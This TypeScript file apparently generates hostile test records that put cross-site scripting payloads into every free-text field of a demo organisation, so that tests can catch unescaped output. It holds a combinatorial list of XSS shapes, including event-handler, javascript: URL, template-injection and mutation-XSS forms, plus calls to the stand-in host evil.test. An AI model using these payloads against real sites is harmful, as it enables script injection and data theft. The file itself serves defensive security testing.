/** Records whose every text is written to be run. */

import { type DemoRecord, generate, kelp, profiles, type Scene } from '@rockpool/demo-data';
import { collections, fieldsOfOtherKinds, isJsonObject, type Json, type JsonObject } from '@rockpool/schema';
import { type FieldSchema, ruleName, type ValueSchema } from '../../schema/src/define/field.ts';

export const hostile = { id: 'hostile-waters', name: 'Hostile <img src=x onerror=__ran()> Waters' } as const;

/** Who signs in there. */
export const witness = 'Eve Witness';

/** What a payload does when it runs; tests look for it. */
const deeds = ['__ran()', 'top.__ran()', 'self[`__ran`]()', 'fetch(`http://evil.test/`)', 'alert(1)'];
const urls = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,<script>', 'vbscript:'];
const events = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'OnErRoR'];
const elements = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe', 'marquee'];
const shapes: readonly ((deed: string, event: string, element: string, url: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `</title></textarea></style></script><script>${deed}</script>`,
  (deed, event, element) => `<${element} ${event}=${deed}>`,
  (deed, event, element) => `"><${element} ${event}="${deed}">`,
  (deed, event, element) => `'><${element}/${event}='${deed}'>`,
  (deed, event) => `" ${event}="${deed}" x="`,
  (deed, _event, _element, url) => `<a href="${url}${deed}">x</a>`,
  (deed, _event, _element, url) => `[x](${url}${deed})`,
  (deed, _event, _element, url) => `${url}${deed}`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  (deed) => `<style>@import 'http://evil.test/';</style><link rel=stylesheet href=http://evil.test/ onload=${deed}>`,
  (deed) => `&lt;script&gt;${deed}&lt;/script&gt;`,
  (deed) => `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
];

/** 15 shapes by 5 deeds by 8 events by 8 elements, in an order that meets all shapes soon. */
function payload(i: number): string {
  const at = <T>(items: readonly T[], step: number): T => items[Math.floor(i / step) % items.length] as T;
  return at(shapes, 1)(at(deeds, 3), at(events, 5), at(elements, 7), at(urls, 11));
}

/** Payloads that a text has room for: one, or in a long text many. */
function payloadsFor(room: number, next: () => number): string {
  let text = payload(next());
  while (text.length > room) text = payload(next());
  for (let more = payload(next()); room >= 2_000 && text.length + more.length < 2_000; more = payload(next())) {
    text += `\n${more}`;
  }
  return text;
}

/** The shortest payload, and some to spare; and what is as long as an id. */
const LEAST_ROOM = 32;
const ID = 36;

/** Texts that name something. With a payload in its place nobody would find, or show, what they are about. */
const names = [
  'key',
  'entity',
  'field',
  'requirements',
  'role',
  'series',
  'deviceId',
  'granted',
  'options',
  'timeZone',
];
const places = ['pos', 'position', 'at'];

function isFreeText(field: string, { type, enum: values, format, pattern, maxLength = 255 }: ValueSchema): boolean {
  const isName = [...names, ...places].includes(field) || maxLength === ID;
  return type === 'string' && !values && !format && !pattern && maxLength >= LEAST_ROOM && !isName;
}

/** The value with payloads in place of its texts, also those that are not there yet. */
function poisoned(field: string, schema: ValueSchema, value: Json | undefined, next: () => number): Json | undefined {
  if (isFreeText(field, schema)) return payloadsFor(schema.maxLength ?? 255, next);
  const { items, properties } = schema;
  if (Array.isArray(value) && items) return value.map((item) => poisoned(field, items, item, next) ?? item);
  if (!isJsonObject(value) || !properties) return value;
  const changed = Object.entries(value).map(([key, inner]) => {
    const property = properties[key];
    return [key, property ? (poisoned(key, property, inner, next) ?? inner) : inner];
  });
  return Object.fromEntries(changed);
}

/** An organisation like another, with payloads in place of its texts. */
export function* hostileRecords(scene: Omit<Scene, 'organisation'>): Generator<DemoRecord> {
  let count = 0;
  let users = 0;
  const next = (): number => count++;
  for (const { collection, body } of generate({ ...scene, organisation: kelp.id }, profiles.XS)) {
    const { fields } = collections[collection];
    const foreign = fieldsOfOtherKinds(collections[collection], String(body['kind']));
    const changed: { [field: string]: Json } = { ...(body as JsonObject) };
    for (const [field, schema] of Object.entries<FieldSchema>(fields)) {
      if (foreign.has(field) || ['computed', 'server'].includes(ruleName(schema.merge))) continue;
      const value = poisoned(field, schema, changed[field], next);
      if (value !== undefined) changed[field] = value;
    }
    if (body['kind'] === 'user' && users++ === 0) changed['name'] = witness;
    yield { collection, body: changed } as DemoRecord;
  }
}
